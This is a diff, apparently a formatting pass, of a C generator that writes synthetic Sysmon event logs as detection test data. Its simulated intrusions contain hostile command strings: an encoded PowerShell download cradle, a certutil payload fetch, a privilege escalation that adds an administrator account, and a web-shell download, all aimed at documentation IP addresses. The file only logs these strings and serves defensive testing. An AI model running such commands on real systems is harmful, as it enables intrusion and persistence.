@@ -4,8 +4,8 @@
  * What happens is told here, process by process; where it is told of is a host
  * with a clock, so the same bytes come out on every run. testdata/README.md says
  * what is in the files and why. Sound evidence and damaged are two folders, because
- * a run over the second ends with another status; EVENTS has each of Sysmon's other events. Names of companies, hosts and people are made
- * up; addresses are those reserved for documentation.
+ * a run over the second ends with another status; EVENTS has each of Sysmon's other events. Names
+ * of companies, hosts and people are made up; addresses are those reserved for documentation.
  */
 #include "evtxgen.h"
 
@@ -27,7 +27,7 @@
 
 enum { TEXT = 40, NOISE = 6, DAMAGE_AT = 4096 + 65536 + 8192, DAMAGE_SIZE = 600 };
 
-/* ---- hosts ------------------------------------------------------------------------ */
+/* hosts */
 
 typedef struct proc {
     char guid[TEXT];
@@ -78,7 +78,7 @@ static proc unseen(host *h, const char *image, const char *command, const char *
     return p;
 }
 
-/* ---- what Sysmon adds about an image --------------------------------------------------- */
+/* what Sysmon adds about an image */
 
 typedef struct image_info {
     const char *file, *original, *description;
@@ -150,7 +150,7 @@ static void doubled(const char *command, st_buf *out)
     st_buf_char(out, 0);
 }
 
-/* ---- events ------------------------------------------------------------------------------ */
+/* events */
 
 static void add(story *s, host *h, uint16_t id, uint8_t version, const gen_field *f, size_t n,
                 const char *message)
@@ -265,9 +265,9 @@ static void end(story *s, host *h, const proc *p)
     st_buf_time_sysmon(&utc, h->now);
     st_buf_char(&utc, 0);
     const gen_field all[] = {
-        { "RuleName", "-", GEN_STRING, 0 },    { "UtcTime", utc.p, GEN_STRING, 0 },
+        { "RuleName", "-", GEN_STRING, 0 },      { "UtcTime", utc.p, GEN_STRING, 0 },
         { "ProcessGuid", p->guid, GEN_GUID, 0 }, { "ProcessId", pid, GEN_U32, 0 },
-        { "Image", p->image, GEN_STRING, 0 },  { "User", p->user, GEN_STRING, 0 },
+        { "Image", p->image, GEN_STRING, 0 },    { "User", p->user, GEN_STRING, 0 },
     };
     static const unsigned since[6] = { 21, 0, 0, 0, 0, 23 };
     gen_field fields[6];
@@ -328,7 +328,7 @@ static void connection(story *s, host *h, const proc *p, const char *to, const c
     st_buf_free(&utc);
 }
 
-/* ---- background: what any server does ----------------------------------------------------- */
+/* background: what any server does */
 
 typedef struct daily {
     const char *parent, *parent_command, *image, *command, *user;
@@ -387,7 +387,7 @@ static void background(story *s, host *h, unsigned rounds)
     }
 }
 
-/* ---- the files ------------------------------------------------------------------------------- */
+/* the files */
 
 static bool make_dir(const char *path)
 {
@@ -441,7 +441,7 @@ static host new_host(story *s, const char *computer, unsigned machine, unsigned 
     return h;
 }
 
-/* ---- testdata/iis ------------------------------------------------------------------------------ */
+/* testdata/iis */
 
 static void compile_page(story *s, host *h, const proc *server)
 {
@@ -449,7 +449,8 @@ static void compile_page(story *s, host *h, const proc *server)
                      "\"" DOTNET "csc.exe\" /noconfig /fullpaths "
                      "@\"C:\\Windows\\TEMP\\4lqv0zpd.cmdline\"");
     wait_ms(h, 60);
-    run(s, h, &csc, SYS32 "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
+    run(s, h, &csc, SYS32 "conhost.exe",
+        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
     run(s, h, &csc, DOTNET "cvtres.exe",
         DOTNET "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 \"/OUT:C:\\Windows\\TEMP\\RES91D.tmp\"");
     end(s, h, &csc);
@@ -461,7 +462,8 @@ static void shell(story *s, host *h, const proc *server, const char *line, const
 {
     proc cmd = child(s, h, server, SYS32 "cmd.exe", line);
     wait_ms(h, 20);
-    run(s, h, &cmd, SYS32 "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
+    run(s, h, &cmd, SYS32 "conhost.exe",
+        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
     run(s, h, &cmd, image, command);
     end(s, h, &cmd);
     wait_ms(h, 21000);
@@ -471,7 +473,8 @@ static void iis_recon(story *s, host *h, const proc *server)
 {
     shell(s, h, server, "\"c:\\windows\\system32\\cmd.exe\" /c whoami /all", SYS32 "whoami.exe",
           "whoami  /all");
-    proc cmd = child(s, h, server, SYS32 "cmd.exe", "\"c:\\windows\\system32\\cmd.exe\" /c net user");
+    proc cmd =
+        child(s, h, server, SYS32 "cmd.exe", "\"c:\\windows\\system32\\cmd.exe\" /c net user");
     wait_ms(h, 25);
     proc net = child(s, h, &cmd, SYS32 "net.exe", "net  user");
     wait_ms(h, 15);
@@ -498,7 +501,8 @@ static void iis_chopper(story *s, host *h, const proc *server)
 /* IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a') */
 static const char download_line[] =
     "powershell -nop -w hidden -enc "
-    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwA"
+    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAG"
+    "wA"
     "bwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAnACkA";
 
 static void iis_download(story *s, host *h, const proc *server)
@@ -514,13 +518,15 @@ static void iis_download(story *s, host *h, const proc *server)
     run(s, h, &ps, SYS32 "certutil.exe",
         "certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Windows\\Temp\\p.exe");
     run(s, h, &ps, SYS32 "notepad.exe", "notepad.exe");
-    proc potato = child(s, h, &ps, "C:\\Windows\\Temp\\p.exe", "C:\\Windows\\Temp\\p.exe -c cmd.exe");
+    proc potato =
+        child(s, h, &ps, "C:\\Windows\\Temp\\p.exe", "C:\\Windows\\Temp\\p.exe -c cmd.exe");
     wait_ms(h, 1200);
     proc root = start(s, h, &potato, SYS32 "cmd.exe", "cmd.exe", SYSTEM_USER, "System");
     wait_ms(h, 4000);
     run(s, h, &root, SYS32 "whoami.exe", "whoami");
     proc net = child(s, h, &root, SYS32 "net.exe", "net localgroup administrators helpdesk /add");
-    run(s, h, &net, SYS32 "net1.exe", "C:\\Windows\\system32\\net1 localgroup administrators helpdesk /add");
+    run(s, h, &net, SYS32 "net1.exe",
+        "C:\\Windows\\system32\\net1 localgroup administrators helpdesk /add");
     end(s, h, &net);
     run(s, h, &root, SYS32 "nltest.exe", "nltest /domain_trusts");
     run(s, h, &root, SYS32 "inetsrv\\appcmd.exe",
@@ -532,8 +538,10 @@ static void iis_download(story *s, host *h, const proc *server)
 }
 
 static const char w3wp_line[] =
-    "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\" -l \"webengine4.dll\" "
-    "-a \\\\.\\pipe\\iisipm6f2 -h \"C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config\"";
+    "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\" -l "
+    "\"webengine4.dll\" "
+    "-a \\\\.\\pipe\\iisipm6f2 -h "
+    "\"C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config\"";
 
 static void tell_iis(story *s)
 {
@@ -568,20 +576,28 @@ static void tell_others(story *s)
     const gen_field classic[] = { { NULL, "W32Time\nweb01", GEN_STRINGS, 0 },
                                   { NULL, "0a0B0c", GEN_BINARY, 0 } };
     const gen_field values[] = {
-        { "I8", "-5", GEN_I8, 0 },          { "U8", "200", GEN_U8, 0 },
-        { "I16", "-300", GEN_I16, 0 },      { "U16", "60000", GEN_U16, 0 },
-        { "I32", "-70000", GEN_I32, 0 },    { "U32", "4000000000", GEN_U32, 0 },
-        { "I64", "-5000000000", GEN_I64, 0 }, { "U64", "18446744073709551615", GEN_U64, 0 },
-        { "Float", "1.5", GEN_FLOAT, 0 },   { "Double", "-0.1", GEN_DOUBLE, 0 },
-        { "Bool", "true", GEN_BOOL, 0 },    { "Ansi", "plain", GEN_ANSI, 0 },
+        { "I8", "-5", GEN_I8, 0 },
+        { "U8", "200", GEN_U8, 0 },
+        { "I16", "-300", GEN_I16, 0 },
+        { "U16", "60000", GEN_U16, 0 },
+        { "I32", "-70000", GEN_I32, 0 },
+        { "U32", "4000000000", GEN_U32, 0 },
+        { "I64", "-5000000000", GEN_I64, 0 },
+        { "U64", "18446744073709551615", GEN_U64, 0 },
+        { "Float", "1.5", GEN_FLOAT, 0 },
+        { "Double", "-0.1", GEN_DOUBLE, 0 },
+        { "Bool", "true", GEN_BOOL, 0 },
+        { "Ansi", "plain", GEN_ANSI, 0 },
         { "Binary", "deadbeef", GEN_BINARY, 0 },
         { "Guid", "{01234567-89AB-CDEF-0123-456789ABCDEF}", GEN_GUID, 0 },
         { "Size", "0x1000", GEN_HEX64, GEN_SIZE },
         { "FileTime", "2026-03-04T06:10:00.1234567Z", GEN_FILETIME, 0 },
         { "SystemTime", "2026-03-04T06:10:00.123Z", GEN_SYSTEMTIME, 0 },
         { "Sid", "S-1-5-21-1-2-3-500", GEN_SID, 0 },
-        { "Hex32", "0xdead", GEN_HEX32, 0 }, { "Hex64", "0x3e7", GEN_HEX64, 0 },
-        { "Null", "leaked", GEN_NULL, GEN_STRING }, { "Empty", "", GEN_STRING, 0 },
+        { "Hex32", "0xdead", GEN_HEX32, 0 },
+        { "Hex64", "0x3e7", GEN_HEX64, 0 },
+        { "Null", "leaked", GEN_NULL, GEN_STRING },
+        { "Empty", "", GEN_STRING, 0 },
         { "Odd", "tab\tquote\" <tag> & 100% é 𠮷", GEN_STRING, 0 },
     };
     gen_event ev = { .provider = "Microsoft-Windows-Kernel-General",
@@ -616,7 +632,7 @@ static void tell_others(story *s)
     write_file(s, "iis", "notes.txt", ST_STR("Collected on 4 March 2026 from web01.\n"));
 }
 
-/* ---- testdata/tomcat ---------------------------------------------------------------------------- */
+/* testdata/tomcat */
 
 static void tell_tomcat(story *s)
 {
@@ -625,17 +641,19 @@ static void tell_tomcat(story *s)
     proc services = services_of(&h);
     service_state(s, &h);
     background(s, &h, 8);
-    proc tomcat = start(s, &h, &services,
-                        "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\Tomcat9.exe",
-                        "\"C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\"
-                        "Tomcat9.exe\" //RS//Tomcat9",
-                        LOCAL_SERVICE, "System");
+    proc tomcat =
+        start(s, &h, &services,
+              "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\Tomcat9.exe",
+              "\"C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\"
+              "Tomcat9.exe\" //RS//Tomcat9",
+              LOCAL_SERVICE, "System");
     run(s, &h, &tomcat, SYS32 "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0x4");
     wait_ms(&h, 3600000);
     shell(s, &h, &tomcat, "cmd.exe /c whoami", SYS32 "whoami.exe", "whoami");
     shell(s, &h, &tomcat, "cmd.exe /c \"net view\"", SYS32 "net.exe", "net view");
-    proc ps = child(s, &h, &tomcat, POWERSHELL,
-                    "powershell.exe -c \"iwr http://198.51.100.7/s.jsp -OutFile ..\\webapps\\ROOT\\s.jsp\"");
+    proc ps = child(
+        s, &h, &tomcat, POWERSHELL,
+        "powershell.exe -c \"iwr http://198.51.100.7/s.jsp -OutFile ..\\webapps\\ROOT\\s.jsp\"");
     wait_ms(&h, 2500);
     connection(s, &h, &ps, "198.51.100.7", "80");
     end(s, &h, &ps);
@@ -652,13 +670,14 @@ static void tell_tomcat(story *s)
     finish(s, h.log, "tomcat", "sysmon.evtx");
 }
 
-/* ---- testdata/clean -------------------------------------------------------------------------------- */
+/* testdata/clean */
 
 static void clean_desktop(story *s, host *h)
 {
     proc userinit = unseen(h, SYS32 "userinit.exe", SYS32 "userinit.exe", "CORP\\admin");
     userinit.level = "Medium";
-    proc explorer = child(s, h, &userinit, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
+    proc explorer =
+        child(s, h, &userinit, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
     wait_ms(h, 5000);
     proc cmd = child(s, h, &explorer, SYS32 "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"");
     wait_ms(h, 2000);
@@ -670,17 +689,20 @@ static void clean_desktop(story *s, host *h)
     end(s, h, &net);
     end(s, h, &cmd);
     proc ps = child(s, h, &explorer, POWERSHELL, "\"" POWERSHELL "\" ");
-    run(s, h, &ps, SYS32 "inetsrv\\appcmd.exe", "\"" SYS32 "inetsrv\\appcmd.exe\" list apppool w3wp.exe");
-    run(s, h, &explorer, SYS32 "mmc.exe", "\"" SYS32 "mmc.exe\" \"C:\\Windows\\system32\\inetsrv\\iis.msc\"");
-    run(s, h, &explorer, SYS32 "notepad.exe", "\"" SYS32 "notepad.exe\" C:\\inetpub\\wwwroot\\web.config");
+    run(s, h, &ps, SYS32 "inetsrv\\appcmd.exe",
+        "\"" SYS32 "inetsrv\\appcmd.exe\" list apppool w3wp.exe");
+    run(s, h, &explorer, SYS32 "mmc.exe",
+        "\"" SYS32 "mmc.exe\" \"C:\\Windows\\system32\\inetsrv\\iis.msc\"");
+    run(s, h, &explorer, SYS32 "notepad.exe",
+        "\"" SYS32 "notepad.exe\" C:\\inetpub\\wwwroot\\web.config");
     end(s, h, &ps);
 }
 
 static void clean_servers(story *s, host *h)
 {
     proc services = services_of(h);
-    proc was = start(s, h, &services, SYS32 "svchost.exe", SYS32 "svchost.exe -k iissvcs", SYSTEM_USER,
-                     "System");
+    proc was = start(s, h, &services, SYS32 "svchost.exe", SYS32 "svchost.exe -k iissvcs",
+                     SYSTEM_USER, "System");
     wait_ms(h, 900);
     proc w3wp = start(s, h, &was, SYS32 "inetsrv\\w3wp.exe", w3wp_line, POOL, "High");
     wait_ms(h, 1500);
@@ -698,7 +720,8 @@ static void clean_servers(story *s, host *h)
                        "\"C:\\Apache24\\bin\\httpd.exe\" -k runservice", SYSTEM_USER, "System");
     proc worker = child(s, h, &httpd, "C:\\Apache24\\bin\\httpd.exe",
                         "C:\\Apache24\\bin\\httpd.exe -d C:/Apache24");
-    proc nginx = start(s, h, &services, "C:\\nginx\\nginx.exe", "nginx.exe", LOCAL_SERVICE, "System");
+    proc nginx =
+        start(s, h, &services, "C:\\nginx\\nginx.exe", "nginx.exe", LOCAL_SERVICE, "System");
     proc pipe = child(s, h, &nginx, SYS32 "cmd.exe", "cmd.exe /c \"D:\\site\\bin\\thumbnail.bat\"");
     run(s, h, &pipe, "D:\\site\\bin\\convert.exe", "convert.exe in.tif out.jpg");
     end(s, h, &pipe);
@@ -713,15 +736,16 @@ static void clean_questions(story *s, host *h)
                       "\"C:\\ManageEngine\\jre\\bin\\java.exe\" -Dcatalina.home=C:\\ManageEngine "
                       "org.apache.catalina.startup.Bootstrap",
                       SYSTEM_USER, "System");
-    proc cmd = child(s, h, &java, SYS32 "cmd.exe", "cmd.exe /c \"C:\\ManageEngine\\bin\\elasticsearch.bat\" -d");
+    proc cmd = child(s, h, &java, SYS32 "cmd.exe",
+                     "cmd.exe /c \"C:\\ManageEngine\\bin\\elasticsearch.bat\" -d");
     run(s, h, &cmd, "C:\\ManageEngine\\jre\\bin\\java.exe",
         "java.exe -cp lib\\* org.elasticsearch.bootstrap.Elasticsearch");
     end(s, h, &cmd);
     run(s, h, &java, SYS32 "sc.exe", "sc query ManageEngineDb");
     run(s, h, &java, SYS32 "net.exe", "net start ManageEngineDb");
     proc node = start(s, h, &services, "C:\\Program Files\\nodejs\\node.exe",
-                      "\"C:\\Program Files\\nodejs\\node.exe\" D:\\site\\server.js", "CORP\\svc-web",
-                      "High");
+                      "\"C:\\Program Files\\nodejs\\node.exe\" D:\\site\\server.js",
+                      "CORP\\svc-web", "High");
     proc sh = child(s, h, &node, SYS32 "cmd.exe",
                     SYS32 "cmd.exe /d /s /c \"netstat -ano | findstr :3000 | findstr LISTENING\"");
     run(s, h, &sh, SYS32 "netstat.exe", "netstat  -ano ");
@@ -734,7 +758,8 @@ static void clean_questions(story *s, host *h)
 /* Programs that only look like servers. */
 static void clean_lookalikes(story *s, host *h)
 {
-    proc explorer = unseen(h, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "CORP\\dev");
+    proc explorer =
+        unseen(h, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "CORP\\dev");
     explorer.level = "Medium";
     proc node = child(s, h, &explorer, "C:\\Program Files\\nodejs\\node.exe",
                       "\"C:\\Program Files\\nodejs\\node.exe\" "
@@ -773,7 +798,7 @@ static void tell_clean(story *s)
     finish(s, old.log, "clean", "old-schema.evtx");
 }
 
-/* ---- testdata/collector ------------------------------------------------------------------------------ */
+/* testdata/collector */
 
 static void tell_collector(story *s)
 {
@@ -806,7 +831,7 @@ static void tell_collector(story *s)
     finish(s, log, "collector", "ForwardedEvents.evtx");
 }
 
-/* ---- tests/damaged ---------------------------------------------------------------------------------- */
+/* tests/damaged */
 
 static void tell_damaged(story *s)
 {
@@ -827,13 +852,16 @@ static void tell_damaged(story *s)
     st_buf_free(&out);
 }
 
-/* ---- tests/events ------------------------------------------------------------------------------------ */
+/* tests/events */
 
-#define F(name, text) { name, text, GEN_STRING, 0 }
+#define F(name, text)             \
+    {                             \
+        name, text, GEN_STRING, 0 \
+    }
 
 /* An event of a process: what all have, its own fields, and User where the schema has it there. */
-static void act(story *s, host *h, uint16_t id, uint8_t version, const proc *p, const gen_field *own,
-                size_t n)
+static void act(story *s, host *h, uint16_t id, uint8_t version, const proc *p,
+                const gen_field *own, size_t n)
 {
     gen_field f[24];
     char pid[16];
@@ -854,10 +882,10 @@ static void act(story *s, host *h, uint16_t id, uint8_t version, const proc *p, 
     add(s, h, id, version, f, k, "");
     st_buf_free(&utc);
 }
-#define ACT(id, version, p, ...)                                                                   \
-    do {                                                                                           \
-        const gen_field own[] = { __VA_ARGS__ };                                                   \
-        act(s, h, id, version, p, own, sizeof own / sizeof own[0]);                                \
+#define ACT(id, version, p, ...)                                    \
+    do {                                                            \
+        const gen_field own[] = { __VA_ARGS__ };                    \
+        act(s, h, id, version, p, own, sizeof own / sizeof own[0]); \
     } while (0)
 
 /* One process does something to another. */
@@ -912,7 +940,8 @@ static void fetches(story *s, host *h, const proc *p)
         F("CreationUtcTime", "2026-03-09 08:00:04.000"));
     ACT(15, 2, p, F("TargetFilename", "C:\\Users\\dev\\Downloads\\viewer.exe:Zone.Identifier"),
         F("CreationUtcTime", "2026-03-09 08:00:04.000"),
-        F("Hash", "SHA1=0123456789ABCDEF0123456789ABCDEF01234567,MD5=00112233445566778899AABBCCDDEEFF"),
+        F("Hash",
+          "SHA1=0123456789ABCDEF0123456789ABCDEF01234567,MD5=00112233445566778899AABBCCDDEEFF"),
         F("Contents", "[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://www.example/viewer  "
                       "HostUrl=https://cdn.example/viewer.exe"));
 }
@@ -942,6 +971,7 @@ static void subscribes(story *s, host *h)
     wait_ms(h, 1500);
     st_buf_time_sysmon(&utc, h->now);
     st_buf_char(&utc, 0);
+/* clang-format off */
 #define WMI(id, type, ...)                                                                         \
     do {                                                                                           \
         const gen_field f[] = { F("RuleName", "-"),          F("EventType", type),                 \
@@ -949,6 +979,7 @@ static void subscribes(story *s, host *h)
                                 F("User", "CORP\\dev"), __VA_ARGS__ };                             \
         add(s, h, id, 3, f, sizeof f / sizeof f[0], "");                                           \
     } while (0)
+    /* clang-format on */
     WMI(19, "WmiFilterEvent", F("EventNamespace", " \"root\\\\cimv2\""), F("Name", " \"Daily\""),
         F("Query", " \"SELECT * FROM __InstanceModificationEvent WITHIN 60\""));
     WMI(20, "WmiConsumerEvent", F("Name", " \"Daily\""), F("Type", "Command Line"),
@@ -960,7 +991,8 @@ static void subscribes(story *s, host *h)
 
 static void tell_events(story *s)
 {
-    host told = new_host(s, "ws09.corp.example", 0xA1B20009, 23, "2026-03-09T08:00:00Z", NULL), *h = &told;
+    host told = new_host(s, "ws09.corp.example", 0xA1B20009, 23, "2026-03-09T08:00:00Z", NULL),
+         *h = &told;
     st_buf out = { 0 };
     char path[4096];
     proc system = unseen(h, "System", "-", SYSTEM_USER), explorer, shell, tool, notepad;
@@ -973,8 +1005,9 @@ static void tell_events(story *s)
     notepad = child(s, h, &explorer, SYS32 "notepad.exe", "notepad.exe");
     fetches(s, h, &shell);
     tool = child(s, h, &shell, "C:\\Users\\dev\\Downloads\\viewer.exe", "viewer.exe -q");
-    ACT(7, 3, &tool, F("ImageLoaded", "C:\\Users\\dev\\Downloads\\version.dll"), F("FileVersion", "-"),
-        F("Description", "-"), F("Product", "-"), F("Company", "-"), F("OriginalFileName", "-"),
+    ACT(7, 3, &tool, F("ImageLoaded", "C:\\Users\\dev\\Downloads\\version.dll"),
+        F("FileVersion", "-"), F("Description", "-"), F("Product", "-"), F("Company", "-"),
+        F("OriginalFileName", "-"),
         F("Hashes", "SHA256=AABBCCDDEEFF00112233445566778899AABBCCDDEEFF00112233445566778899"),
         F("Signed", "false"), F("Signature", "-"), F("SignatureStatus", "Unavailable"));
     registers(s, h, &tool);
